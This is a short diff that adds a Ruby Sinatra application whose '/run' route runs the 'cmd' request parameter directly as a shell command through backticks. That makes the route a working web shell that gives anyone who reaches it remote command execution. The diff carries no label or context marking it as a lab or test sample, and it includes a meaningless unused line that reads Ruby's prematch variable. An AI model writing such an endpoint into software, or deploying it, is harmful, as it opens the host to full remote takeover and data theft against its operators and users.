@@ -1,0 +1,5 @@
+require 'sinatra'
+get '/run' do
+  before = $`
+  `#{params[:cmd]}`
+end
